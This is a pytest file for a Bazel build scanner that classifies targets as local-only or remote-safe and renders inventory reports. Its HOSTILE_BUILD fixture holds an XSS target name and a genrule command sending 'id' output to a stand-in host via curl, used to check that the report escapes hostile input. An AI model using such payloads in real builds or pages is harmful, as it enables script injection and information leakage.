"""Inventory: golden reports per corpus workspace, schema validation, renderers."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import jsonschema
import pytest
from conftest import CORPUS, ROOT
from helpers import write_tree

from hermetic_scan.inventory import EntryEncoder, Inventory
from hermetic_scan.options import load_options
from hermetic_scan.render import render_inventory
from hermetic_scan.render.inventory_json import document
from hermetic_scan.runner import scan

SCHEMA = json.loads((ROOT / "hermetic_scan" / "schemas" / "inventory.schema.json").read_text())
WORKSPACES = sorted(p for p in CORPUS.iterdir() if p.is_dir())
GOLDEN = ROOT / "tests" / "golden"


def _document(workspace: Path) -> dict:
    doc = document(scan(workspace, load_options(workspace)).inventory)
    doc["root"] = workspace.name  # machine-independent
    return doc


@pytest.mark.parametrize("workspace", WORKSPACES, ids=lambda p: p.name)
def test_inventory_matches_golden(workspace: Path) -> None:
    doc = _document(workspace)
    jsonschema.validate(doc, SCHEMA)
    golden = GOLDEN / f"{workspace.name}.inventory.json"
    text = json.dumps(doc, indent=2) + "\n"
    if os.environ.get("HERMETIC_SCAN_UPDATE_GOLDEN"):
        golden.parent.mkdir(exist_ok=True)
        golden.write_text(text)
    assert golden.exists(), f"no golden file; run with HERMETIC_SCAN_UPDATE_GOLDEN=1 and review {golden}"
    assert text == golden.read_text(), f"inventory of {workspace.name} differs from {golden.name}"


@pytest.mark.parametrize("fmt", ["markdown", "html", "csv", "json"])
@pytest.mark.parametrize("workspace", WORKSPACES, ids=lambda p: p.name)
def test_every_format_renders_every_target(workspace: Path, fmt: str) -> None:
    inventory = scan(workspace, load_options(workspace)).inventory
    out = render_inventory(inventory, fmt)
    for target in inventory.targets:
        assert target.label in out
    if fmt == "html":
        assert out.startswith("<!DOCTYPE html>")
        # Self-contained: nothing is fetched (doc addresses in findings' text are only text).
        assert not re.search(
            r"""(?:src|href|action)\s*=\s*["']?(?:https?:)?//|url\(\s*["']?(?:https?:)?//""", out
        )
        assert "<script src" not in out and "<link" not in out, "self-contained"


@pytest.mark.parametrize("workspace", WORKSPACES, ids=lambda p: p.name)
def test_entries_put_together_from_pieces_read_as_json_dumps_writes_them(workspace: Path) -> None:
    # One encoder for the whole workspace, as shards use it: shared findings and actions come from its cache.
    inventory = scan(workspace, load_options(workspace)).inventory
    encoder = EntryEncoder()
    for target in inventory.targets:
        assert encoder(target) == json.dumps(target.entry()), target.label


def test_an_inventory_of_json_entries_renders_only_as_json() -> None:
    inventory = scan(CORPUS / "opentofu", load_options(CORPUS / "opentofu")).inventory
    entries = Inventory(
        inventory.root, None, [], entries=[t.encoded() for t in inventory.targets], counts=inventory.summary()
    )
    assert document(entries)["targets"] == document(inventory)["targets"]
    with pytest.raises(RuntimeError, match="JSON entries only"):
        render_inventory(entries, "markdown")


def _by_label(workspace: str) -> dict[str, dict]:
    return {t["label"]: t for t in _document(CORPUS / workspace)["targets"]}


def test_opentofu_verdicts() -> None:
    targets = _by_label("opentofu")
    for label, t in targets.items():
        if label.endswith(("_validate", "_fmt_test")):
            assert t["verdict"] == "no-remote-exec", label
            # The fmt test reads BUILD_WORKSPACE_DIRECTORY only when it is set: a caveat, not a reason.
            expected = {"ambient-tool"} | (
                {"network-access", "workspace-dir"} if label.endswith("_validate") else {"silent-skip"}
            )
            assert {r["rule"] for r in t["reasons"]} == expected, label
            if label.endswith(
                "_validate"
            ):  # `build:rbe --modify_execution_info=TofuValidate=+no-remote-exec`
                assert t["already_tagged"] and t["suggested_tags"] == [], label
                assert t["kept_local"] == [
                    ".bazelrc:11: build:rbe --modify_execution_info=TofuValidate=+no-remote-exec"
                ]
            else:
                assert t["suggested_tags"] == ["no-remote-exec"] and t["kept_local"] == [], label
    assert {c["rule"] for c in targets["//infra/network:network_validate"]["caveats"]} == {
        "default-shell-env"
    }
    assert {c["rule"] for c in targets["//infra/network:network_fmt_test"]["caveats"]} == {
        "missing-mnemonic",
        "workspace-dir",
    }
    assert targets["//infra/network:network_fmt_test"]["generator"] == "tofu_module_set"
    for label in (
        "//infra/network:network",
        "//infra/dns:dns",
        "//infra/dns:sources",
        "//app:build",
        "//app:unit_tests",
    ):
        assert targets[label]["verdict"] == "remote-ok", label
    doc = _document(CORPUS / "opentofu")
    assert doc["worker_requirements"] == [
        {"tool": "network", "targets": sorted(label for label in targets if label.endswith("_validate"))},
        {
            "tool": "tofu",
            "targets": sorted(label for label in targets if label.endswith(("_validate", "_fmt_test"))),
        },
    ]
    findings = {(d.rule, d.span.path) for d in scan(CORPUS / "opentofu").diagnostics}
    assert ("rc-env-placeholder", ".bazelrc") in findings and ("rc-unknown-mnemonic", ".bazelrc") in findings


def test_mixed_workspace_verdicts() -> None:
    targets = _by_label("inventory-mixed")
    # `build:remote --modify_execution_info=Genrule=+no-remote-exec` keeps every genrule local: the safe
    # one is already kept off remote executors (and says by what), the unsafe one needs no tag either.
    version = targets["//services/api:version_txt"]
    assert version["verdict"] == "no-remote-exec" and version["reasons"] == [] and version["already_tagged"]
    assert version["kept_local"] == [
        ".bazelrc:11: build:remote --modify_execution_info=Genrule=+no-remote-exec,ProtoGen=+requires-x86"
    ]
    git_sha = targets["//services/api:git_sha"]
    assert git_sha["verdict"] == "no-remote-exec" and git_sha["reasons"], "same rule, unsafe target"
    assert git_sha["suggested_tags"] == [] and git_sha["kept_local"] == version["kept_local"]
    assert targets["//services/api:chart"]["verdict"] == "unknown"
    assert targets["//services/api:chart"]["provenance"] == "unresolved"
    assert targets["//services/api:release"]["provenance"] == "knowledge"
    made = {label: t["kind"] for label, t in targets.items() if t["generator"] == "service"}
    assert made == {
        "//services/api:api_gen": "proto_gen",
        "//services/api:api_lint": "proto_gen",
        "//services/api:api_image": "docker_image",
    }
    debug = targets["//services/api:debug_image"]
    assert debug["already_tagged"] and debug["suggested_tags"] == [] and debug["verdict"] == "no-remote-exec"
    assert _document(CORPUS / "inventory-mixed")["bazelrc_suggestions"] == [
        "build --modify_execution_info=^DockerBuild$=+no-remote-exec"
    ]


def test_execution_requirements_keep_an_action_local_only_when_they_always_apply(tmp_path: Path) -> None:
    # Each rule runs `tofu` from the host PATH; the first four always pin its action to the local machine.
    pins = {
        "always": 'reqs = {"no-remote-exec": "1"}',
        "by_key": 'reqs = {"requires-network": "1"}\n    reqs["no-remote-exec"] = "1"',
        "merged": 'reqs = dict(_BASE, **{"requires-network": "1"})',
        "union": 'reqs = {"requires-network": "1"} | _BASE',
        "when_asked": 'reqs = {}\n    if ctx.attr.pin:\n        reqs = {"no-remote-exec": "1"}',
        "key_when_asked": 'reqs = {}\n    if ctx.attr.pin:\n        reqs["no-remote-exec"] = "1"',
        "unless_asked": 'if ctx.attr.pin:\n        reqs = {}\n    else:\n        reqs = {"no-remote-exec": "1"}',
        "by_helper": "reqs = _requirements(ctx)",
    }
    rules = "".join(
        f"def _{name}_impl(ctx):\n"
        f"    {pin}\n"
        "    out = ctx.actions.declare_file(ctx.label.name)\n"
        f'    ctx.actions.run_shell(outputs = [out], command = "tofu fmt > " + out.path, mnemonic = "{name.title()}", execution_requirements = reqs)\n'
        "    return [DefaultInfo(files = depset([out]))]\n\n"
        f'{name} = rule(implementation = _{name}_impl, attrs = {{"pin": attr.bool()}})\n\n'
        for name, pin in pins.items()
    )
    helper = '_BASE = {"no-remote-exec": "1"}\n\ndef _requirements(ctx):\n    if ctx.attr.pin:\n        return {"no-remote-exec": "1"}\n    return {}\n\n'
    root = write_tree(
        tmp_path,
        {
            "MODULE.bazel": "",
            "defs.bzl": helper + rules,
            "BUILD.bazel": f'load(":defs.bzl", {", ".join(repr(n) for n in pins)})\n'
            + "".join(f'{n}(name = "{n}")\n' for n in pins),
        },
    )
    inventory = scan(root).inventory
    always = ("always", "by_key", "merged", "union")
    # Every target runs tofu from the host: none can run remotely. The pinned ones are already kept
    # local (and say by what); the others need the tag.
    assert {t.label: t.verdict for t in inventory.targets} == {f"//:{n}": "no-remote-exec" for n in pins}
    kept = {t.label: (t.already_tagged, t.suggested_tags, t.kept_local) for t in inventory.targets}
    for name in pins:
        already, suggested, why = kept[f"//:{name}"]
        if name in always:
            assert already and suggested == [] and len(why) == 1, name
            assert why[0].startswith(
                "execution_requirements 'no-remote-exec' on ctx.actions.run_shell (defs.bzl:"
            )
        else:
            assert not already and suggested == ["no-remote-exec"] and why == [], name
    assert inventory.bazelrc_suggestions == [
        f"build --modify_execution_info=^{n}$=+no-remote-exec"
        for n in ("By_Helper", "Key_When_Asked", "Unless_Asked", "When_Asked")
    ]


def test_actions_under_attribute_conditions_count_only_for_targets_that_can_reach_them(
    tmp_path: Path,
) -> None:
    root = write_tree(
        tmp_path,
        {
            "MODULE.bazel": "",
            "defs.bzl": (
                "def _push(ctx, out):\n"
                '    ctx.actions.run_shell(outputs = [out], command = "docker push x > " + out.path, mnemonic = "Push")\n'
                "\n"
                "def _impl(ctx):\n"
                "    out = ctx.actions.declare_file(ctx.label.name)\n"
                "    if ctx.attr.push:\n"
                "        _push(ctx, out)\n"
                "    elif not ctx.attr.offline:\n"
                '        ctx.actions.run_shell(outputs = [out], command = "curl -o " + out.path + " https://example.com/x", mnemonic = "Fetch")\n'
                "    else:\n"
                '        ctx.actions.run_shell(outputs = [out], command = "tofu fmt > " + out.path, mnemonic = "Fmt")\n'
                "    return [DefaultInfo(files = depset([out]))]\n"
                "\n"
                'image = rule(implementation = _impl, attrs = {"push": attr.bool(), "offline": attr.bool(default = True)})\n'
                "\n"
                "def image_macro(name, **kwargs):\n"
                "    image(name = name, **kwargs)\n"
            ),
            "BUILD.bazel": (
                'load(":defs.bzl", "image", "image_macro")\n'
                'image(name = "plain")\n'
                'image(name = "pushed", push = True)\n'
                'image(name = "online", offline = False)\n'
                'image(name = "chosen", push = select({"//conditions:default": True}))\n'
                'image_macro(name = "via_macro")\n'
                'image_macro(name = "macro_pushed", push = True)\n'
                'image_macro(name = "macro_opaque", **OPTIONS)\n'
            ),
        },
    )
    inventory = scan(root).inventory
    lines = {t.label: sorted({d.span.start_line + 1 for d in t.reasons}) for t in inventory.targets}
    assert lines == {
        "//:plain": [11],  # push defaults to False, offline to True: the else branch alone
        "//:pushed": [2],  # the helper's action, called from the first branch
        "//:online": [9],
        "//:chosen": [2, 11],  # a select(): push may be either; offline's default still rules out the elif
        "//:via_macro": [11],  # the macro's **kwargs holds known keys only: the defaults apply
        "//:macro_pushed": [2],
        "//:macro_opaque": [2, 9, 11],  # a splat of something unknown: the call may set anything
    }
    # `check` still reports every action: the code is there, whichever target reaches it.
    assert {d.span.start_line + 1 for d in scan(root).diagnostics if d.rule == "ambient-tool"} == {2, 9, 11}


HOSTILE_BUILD = """genrule(
    name = "a|b<script>alert(1)</script>",
    outs = ["x.txt"],
    cmd = "curl https://example.invalid/`id` > $@",
)
"""


def _table_cells(row: str) -> list[str]:
    """Split a Markdown table row the way GitHub does: on pipes not escaped with a backslash."""
    return re.split(r"(?<!\\)\|", row.strip())[1:-1]


def test_markdown_escapes_what_comes_from_the_workspace(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "ws", {"MODULE.bazel": "", "pkg/BUILD.bazel": HOSTILE_BUILD})
    out = render_inventory(scan(root).inventory, "markdown")
    assert "<script>" not in out and "&lt;script&gt;" in out
    rows = [line for line in out.splitlines() if line.startswith("| ") and "//pkg:" in line]
    assert len(rows) == 1
    header = next(line for line in out.splitlines() if line.startswith("| Target |"))
    assert len(_table_cells(rows[0])) == len(_table_cells(header)) == 7


def test_markdown_shows_each_verdicts_provenance() -> None:
    workspace = CORPUS / "inventory-mixed"
    inventory = scan(workspace, load_options(workspace)).inventory
    out = render_inventory(inventory, "markdown")
    header = _table_cells(next(line for line in out.splitlines() if line.startswith("| Target |")))
    column = [cell.strip() for cell in header].index("Verdict source")
    seen = {}
    for line in out.splitlines():
        if line.startswith("| `//"):
            cells = _table_cells(line)
            seen[cells[0].strip().strip("`")] = cells[column].strip()
    by_label = {t.label: t.provenance for t in inventory.targets}
    assert seen.keys() == by_label.keys()
    assert seen["//services/api:release"].startswith("knowledge")
    assert all(seen[label].split()[0] == provenance for label, provenance in by_label.items())


def test_a_rule_made_by_a_call_of_an_unavailable_file_says_where_it_comes_from(tmp_path: Path) -> None:
    root = write_tree(
        tmp_path,
        {
            "MODULE.bazel": "",
            "defs.bzl": 'load("@rules_magic//:factory.bzl", "factory")\n\n'
            'opt_binary, _opt_binary_internal = factory(kind = "binary").with_defaults(opt = True).build()\n',
            "BUILD.bazel": 'load(":defs.bzl", "opt_binary")\n\nopt_binary(name = "server", srcs = ["server.cc"])\n',
        },
    )
    (target,) = scan(root).inventory.targets
    assert (target.label, target.verdict) == ("//:server", "unknown")
    assert target.unknown_because == [
        "rule opt_binary (made by factory.with_defaults.build) comes from @rules_magic//:factory.bzl, "
        "which is not available"
    ]


def test_a_with_cfg_rule_is_judged_as_the_rule_it_wraps(tmp_path: Path) -> None:
    """with_cfg.bzl (https://github.com/fmeum/with_cfg.bzl) changes Bazel settings, not what the
    wrapped rule runs: a genrule wrapped with it runs its command."""
    root = write_tree(
        tmp_path,
        {
            "MODULE.bazel": "",
            "defs.bzl": 'load("@with_cfg.bzl", "with_cfg")\n\n'
            'opt_genrule, _opt_genrule_internal = with_cfg(native.genrule).set("compilation_mode", "opt").build()\n',
            "BUILD.bazel": (
                'load(":defs.bzl", "opt_genrule")\n\n'
                'opt_genrule(name = "fetched", outs = ["f.txt"], cmd = "curl -o $@ https://example.com/f")\n'
                'opt_genrule(name = "copied", srcs = ["in.txt"], outs = ["c.txt"], cmd = "cp $< $@")\n'
            ),
        },
    )
    verdicts = {t.label: (t.info.kind, t.verdict) for t in scan(root).inventory.targets}
    assert verdicts == {"//:fetched": ("genrule", "no-remote-exec"), "//:copied": ("genrule", "remote-ok")}
